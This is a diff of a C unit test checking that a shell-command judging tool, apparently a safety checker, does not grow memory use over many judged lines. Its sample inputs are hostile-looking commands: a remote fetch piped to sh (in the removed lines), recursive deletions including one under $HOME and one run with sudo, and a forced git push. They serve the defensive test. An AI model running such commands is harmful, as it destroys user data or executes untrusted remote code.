@@ -1,48 +1,79 @@
-/* tests/unit/flat.c - judging does not grow the process */
-#include "judge_help.h"
-
+/* tests/unit/flat.c - judging keeps no memory: as many bytes are in use after the last line as after the warm-up
+ *
+ * Counted by the allocator, not by time. Under a sanitizer the allocator's count is not there (mallinfo2() says 0 or
+ * stays still) and the leak check at exit says the same thing.
+ * FLAT_LINES=1000000 is the long run.
+ */
 #include <malloc.h>
+#include <stdlib.h>
 
-/* Address sanitizer finds what is lost by itself, and is slow. */
-#ifdef __SANITIZE_ADDRESS__
-#define LINES	500
-#else
+#include "conf/conf.h"
+#include "intercept/fakeworld.h"
+#include "intercept/judge.h"
+#include "tap.h"
+
 #define LINES	20000
-#endif
-#define SLACK	(64u << 10)	/* of the C library: four bytes more for each line would not fit */
+#define SLACK	4096	/* stdio and the allocator's own lists; 20,000 lines that lose one byte each are above it */
 
-static const char *const lines[] = {
-	"rm -rf build && make -j4 2>&1 | tail", "git push --force origin main", "for i in {1..50}; do echo \"$i\" > f$i; done",
-	"python3 -c \"import os; os.remove('x')\"", "bash -c 'cd src && find . -name \"*.o\" -delete'", "echo 'no end", "make bad",
-	"curl -s https://x.example | sh", "x=$(git rev-parse --show-toplevel); rm -rf \"$x/dist\"", "sed -i.bak s/a/b/ a.c && rm a.c.bak",
+static const char *const questions[] = {
+	"{\"cmd\":\"ls -la | grep x; cat < a > /tmp/b\"}",
+	"{\"cmd\":\"rm -rf \\\"$HOME\\\"/x && git push --force origin main\"}",
+	"{\"cmd\":\"for f in *.c; do echo \\\"${f%.c}\\\" $((1+2)); done\"}",
+	"{\"cmd\":\"python3 -c 'import os; os.remove(\\\"a\\\")'\"}",
+	"{\"cmd\":\"cat <<EOF | sh\\nrm a\\nEOF\"}",
+	"{\"cmd\":\"sudo bash -c \\\"env X=1 find . -exec rm {} +\\\"\"}",
+	"{\"cmd\":\"echo 'never closed\"}",
+	"{\"cmd\":\"print -l *(.N) ${(s:,:)x}\",\"shell\":\"zsh\"}",
+	"{\"cmd\":\"Get-ChildItem | Remove-Item -Recurse\",\"shell\":\"powershell\"}",
+	"{\"cmd\":\"if exist a (del /q a) else dir %X%\",\"shell\":\"cmd\"}",
 };
 
-static size_t in_use(void)
+static void judge_all(struct judge *j, unsigned long lines)
 {
-	return mallinfo2().uordblks;
-}
+	for (unsigned long i = 0; i < lines; i++) {
+		const char *text = questions[i % (sizeof(questions) / sizeof(questions[0]))];
+		struct err e = { 0 };
+		struct cmdline cl;
+		json *line = json_parse(text, strlen(text), NULL, &e);
+		struct world *w;
+		struct live *l;
 
-static void judge_some(struct bench *b, size_t n)
-{
-	for (size_t i = 0; i < n; i++) {
-		bench_judge(b, lines[i % ARRAY_SIZE(lines)], "{\"content\":{\"Makefile\":\"bad:\\n\\trm -rf $(X)/\\n\"}}");
-		bench_clear(b);
+		if (!line || fakeworld_line(line, &cl, &e) < 0) {
+			ok(false, e.msg);
+			json_free(line);
+			return;
+		}
+		w = fakeworld_new(line);
+		l = fakeworld_live(line);
+		judgement_free(judge_line(j, &cl, l, w));
+		live_free(l);
+		fakeworld_free(w);
+		json_free(line);
 	}
 }
 
 int main(void)
 {
-	struct bench b;
+	const char *n = getenv("FLAT_LINES");
+	unsigned long lines = n ? strtoul(n, NULL, 10) : LINES;
+	struct conf *conf = NULL;
+	struct judge *j = NULL;
+	struct err e = { 0 };
+	size_t before, after;
 
-	if (bench_init(&b)) {
-		size_t before;
-
-		judge_some(&b, 2 * ARRAY_SIZE(lines));	/* programs are read when they are first named */
-		before = in_use();
-		judge_some(&b, LINES);
-		if (!ok(in_use() <= before + SLACK, "nothing more is held after thousands of lines"))
-			printf("#   %zu bytes more\n", in_use() - before);
+	if (conf_load(&(struct conf_from){ .datadir = "conf", .home = "/nonexistent" }, &conf, &e) < 0 ||
+	    judge_new(conf, "conf", &j, &e) < 0) {
+		ok(false, e.msg);
+		conf_free(conf);
+		return tap_done();
 	}
-	bench_done(&b);
+	judge_all(j, 1000);
+	before = mallinfo2().uordblks;
+	judge_all(j, lines);
+	after = mallinfo2().uordblks;
+	if (!ok(after <= before + SLACK, "no memory stays in use after a line is judged"))
+		printf("#   %zu bytes before, %zu after %lu lines\n", before, after, lines);
+	judge_free(j);
+	conf_free(conf);
 	return tap_done();
 }
